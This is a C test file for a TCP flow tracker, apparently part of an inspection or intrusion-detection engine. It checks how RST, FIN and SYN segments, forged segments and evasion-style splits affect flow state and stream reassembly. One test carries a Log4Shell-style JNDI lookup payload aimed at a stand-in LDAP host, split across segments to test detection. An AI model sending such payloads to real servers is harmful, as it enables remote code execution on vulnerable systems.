// SPDX-License-Identifier: GPL-2.0-or-later
// Part of flow_test.c: how TCP flows end, and begin again.
#pragma once

START_TEST(only_the_exact_rst_closes)
{
	static const struct {
		uint32_t seq;
		bool closes;
	} rows[] = {{5, true},
		    {6, false},
		    {4, false},
		    {1, false},
		    {1005, false},
		    {500005, false},
		    {(uint32_t)-12345, false}};

	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		struct world *w = world_new(8, 8);

		shake_hands(w);
		say(w, C, ACK, 1, 1, "four");
		say(w, C, RST, rows[i].seq, 0, ""); // (72) (73)
		ck_assert_int_eq(w->flow->state, rows[i].closes ? FLOW_CLOSED : FLOW_OPEN);
		say(w, C, ACK, 5, 1, "more"); // (82) inspection goes on either way
		assert_got(w, C, "fourmore");
		world_end(w);
	}
}
END_TEST

START_TEST(a_rst_with_a_payload_is_no_data)
{
	struct world *w = world_new(8, 8);

	shake_hands(w);
	say(w, C, RST, 2, 0, "GARBAGE"); // (74)
	say(w, C, ACK, 1, 1, "real");
	assert_got(w, C, "real");
	ck_assert_int_eq(w->flow->state, FLOW_OPEN);
	world_end(w);
}
END_TEST

START_TEST(an_acknowledgement_after_a_rst_reopens)
{
	struct world *w = world_new(8, 8);

	shake_hands(w);
	say(w, C, RST, 1, 0, "");
	ck_assert_int_eq(w->flow->state, FLOW_CLOSED);
	say(w, C, ACK, 1, 1, "still here");
	say(w, S, ACK, 1, 11, "");
	ck_assert_int_eq(w->flow->state, FLOW_OPEN);
	world_end(w);
}
END_TEST

START_TEST(a_refused_connection_is_closed_by_its_acknowledgement)
{
	struct world *w = world_new(8, 8);

	say(w, C, SYN, 0, 0, "");
	say(w, S, RST | ACK, 0, 2, "");
	ck_assert_int_eq(w->flow->state, FLOW_OPENING);
	say(w, S, RST | ACK, 0, 1, "");
	ck_assert_int_eq(w->flow->state, FLOW_CLOSED);
	say(w, C, SYN, 0, 0, ""); // tried again with the same number
	ck_assert(w->ended == 1 && w->why == FLOW_END_REUSED && w->flow->state == FLOW_OPENING);
	world_end(w);
}
END_TEST

START_TEST(a_fin_counts_when_it_is_acknowledged)
{
	struct world *w = world_new(8, 8);

	shake_hands(w);
	say(w, C, FIN | ACK, 1, 1, "bye");
	ck_assert(w->flow->state == FLOW_OPEN && w->flow->tcp[C].fin == 0);
	say(w, S, ACK, 1, 4, ""); // not yet
	ck_assert_int_eq(w->flow->state, FLOW_OPEN);
	say(w, S, ACK, 1, 5, "");
	ck_assert(w->flow->state == FLOW_CLOSING && w->flow->tcp[C].fin == 1);
	say(w, S, FIN | ACK, 1, 5, "bye yourself");
	say(w, C, ACK, 5, 14, "");
	ck_assert(w->flow->state == FLOW_CLOSED && w->flow->tcp[S].fin == 1);
	assert_got(w, S, "bye yourself");
	ck_assert(!is_uninspected(w));
	world_end(w);
}
END_TEST

START_TEST(a_forged_fin_swallows_no_byte)
{
	struct world *w = world_new(8, 8);

	shake_hands(w);
	say(w, C, FIN | ACK, 1, 1, ""); // (81) never arrives
	say(w, C, ACK, 1, 1, "all of it");
	say(w, S, ACK, 1, 10, "");
	assert_got(w, C, "all of it");
	ck_assert(w->flow->state == FLOW_OPEN && !is_uninspected(w));
	say(w, C, FIN | ACK, 500000000, 1, "");
	say(w, C, ACK, 10, 1, ", really");
	assert_got(w, C, "all of it, really");
	world_end(w);
}
END_TEST

START_TEST(a_fin_before_its_data_waits_for_it)
{
	struct world *w = world_new(8, 8);

	shake_hands(w);
	say(w, C, FIN | ACK, 6, 1, "tail");
	say(w, C, ACK, 1, 1, "head ");
	say(w, S, ACK, 1, 11, "");
	assert_got(w, C, "head tail");
	ck_assert_int_eq(w->flow->tcp[C].fin, 1);
	world_end(w);
}
END_TEST

START_TEST(a_rst_after_a_fin_may_count_it)
{
	struct world *w = world_new(8, 8);

	shake_hands(w);
	say(w, C, FIN | ACK, 1, 1, "");
	say(w, C, RST, 2, 0, "");
	ck_assert_int_eq(w->flow->state, FLOW_CLOSED);
	world_end(w);
}
END_TEST

START_TEST(a_new_syn_on_a_closed_flow_begins_a_new_one)
{
	struct world *w = world_new(8, 8);
	uint64_t id = flow_id(w->table, shake_hands(w)); // (43)

	say(w, C, ACK, 1, 1, "old");
	say(w, C, RST, 4, 0, "");
	say(w, C, SYN, 0, 0, ""); // the old SYN, late
	ck_assert(w->ended == 0 && flow_id(w->table, w->flow) == id);
	say(w, C, SYN, 70000, 0, "");
	ck_assert(w->ended == 1 && w->why == FLOW_END_REUSED && flow_id(w->table, w->flow) != id);
	say(w, S, SYN | ACK, 90000, 70001, "");
	say(w, C, ACK, 70001, 90001, "new");
	ck_assert_uint_eq(w->opened, 2);
	assert_got(w, C, "oldnew");
	world_end(w);
}
END_TEST

START_TEST(a_syn_after_a_syn_ack_nobody_asked_for_sets_the_direction)
{
	struct world *w = world_new(8, 8);

	say(w, C, SYN | ACK, 0, 0, ""); // (34)
	ck_assert_int_eq(w->sender, FLOW_SERVER);
	shake_hands(w);
	say(w, C, ACK, 1, 1, "x");
	ck_assert(w->opened == 1 && w->sender == FLOW_CLIENT && w->why == FLOW_END_REUSED);
	assert_got(w, C, "x");
	world_end(w);
}
END_TEST

START_TEST(a_syn_on_an_open_flow_changes_nothing)
{
	struct world *w = world_new(8, 8);
	uint64_t id = flow_id(w->table, shake_hands(w));

	say(w, C, SYN, 22, 0, ""); // (29)
	say(w, C, SYN, (uint32_t)-12345, 0, "");
	say(w, C, FIN | ACK, 1, 1, ""); // and an unanswered FIN does not make it possible
	say(w, C, SYN, 70000, 0, "");
	say(w, C, ACK, 1, 1, "same");
	ck_assert(flow_id(w->table, w->flow) == id && w->ended == 0 && !is_uninspected(w));
	assert_got(w, C, "same");
	world_end(w);
}
END_TEST

START_TEST(odd_segments_touch_neither_state_nor_stream)
{
	struct world *w = world_new(8, 8);

	shake_hands(w);
	w->oddities = ODDITY_FLAGS; // (30) (31) (61)
	say(w, C, FIN | SYN, 1, 1, "junk");
	say(w, C, FIN | RST | ACK, 1, 1, "junk");
	w->oddities = ODDITY_OFFSET; // (62) (63)
	say(w, C, ACK, 1, 1, "junk");
	w->oddities = 0;
	say(w, C, TCP_PSH, 1, 1, "junk"); // (60)
	say(w, C, ACK, 1, 1, "real");
	assert_got(w, C, "real");
	ck_assert(w->flow->state == FLOW_OPEN && !is_uninspected(w));
	world_end(w);
}
END_TEST

START_TEST(strays_before_a_syn_do_not_spoil_its_flow)
{
	struct world *w = world_new(8, 8);

	say(w, C, RST, 4711, 0, "");
	say(w, C, ACK, 4711, 815, "");
	shake_hands(w);
	say(w, C, ACK, 1, 1, "x");
	ck_assert(w->opened == 1 && !(w->flow->flags & FLOW_FLAG_MIDSTREAM));
	assert_got(w, C, "x");
	world_end(w);
}
END_TEST

START_TEST(the_window_of_a_syn_is_not_scaled)
{
	struct world *w = world_new(8, 8);

	w->scale = 14;
	shake_hands(w);
	ck_assert(flow_window(&w->flow->tcp[S]) == 1000 && flow_widest(&w->flow->tcp[S]) == 1000);
	ck_assert(flow_window(&w->flow->tcp[C]) == 1000 << 14 && flow_widest(&w->flow->tcp[C]) == 1000 << 14);
	say(w, S, ACK, 1, (uint32_t)-1500, "junk"); // older than that: its receiver may refuse it
	assert_got(w, S, "");
	world_end(w);
}
END_TEST

// The server had the byte on the SYN (RFC 7413) and acknowledged it; the FIN behind it is not what that acknowledgement counts.
START_TEST(a_byte_on_a_syn_is_not_taken_for_a_fin)
{
	struct world *w = world_new(8, 8);

	say(w, C, SYN, 0, 0, "G");
	say(w, S, SYN | ACK, 0, 2, "");
	say(w, C, FIN | ACK, 2, 1, "");
	assert_got(w, C, "G");
	ck_assert_int_eq(w->flow->tcp[C].fin, 0);
	say(w, S, ACK, 1, 3, "");
	ck_assert_int_eq(w->flow->tcp[C].fin, 1);
	world_end(w);
}
END_TEST

// A RST that only we see, and a SYN the server answers as one that lies in its window: with a bare ACK.
START_TEST(a_connection_without_its_second_syn_is_midstream)
{
	struct world *w = world_new(8, 8);

	shake_hands(w);
	say(w, C, ACK, 1, 1, "GET /${jn");
	say(w, C, RST, 10, 0, "");
	say(w, C, SYN, 9, 0, "");
	ck_assert(w->ended == 1 && w->why == FLOW_END_REUSED);
	say(w, S, ACK, 1, 10, "");
	say(w, C, ACK, 10, 1, "di:ldap://x/a}");
	assert_got(w, C, "GET /${jndi:ldap://x/a}");
	ck_assert(w->opened == 2 && w->flow->flags & FLOW_FLAG_MIDSTREAM);
	world_end(w);
}
END_TEST

#define FLOW_TESTS_TCP                                                                                                 \
	only_the_exact_rst_closes, a_rst_with_a_payload_is_no_data, an_acknowledgement_after_a_rst_reopens,            \
		a_refused_connection_is_closed_by_its_acknowledgement, a_fin_counts_when_it_is_acknowledged,           \
		a_forged_fin_swallows_no_byte, a_fin_before_its_data_waits_for_it, a_rst_after_a_fin_may_count_it,     \
		a_syn_after_a_syn_ack_nobody_asked_for_sets_the_direction,                                             \
		a_new_syn_on_a_closed_flow_begins_a_new_one, a_syn_on_an_open_flow_changes_nothing,                    \
		odd_segments_touch_neither_state_nor_stream, strays_before_a_syn_do_not_spoil_its_flow,                    \
		the_window_of_a_syn_is_not_scaled, a_byte_on_a_syn_is_not_taken_for_a_fin, a_connection_without_its_second_syn_is_midstream
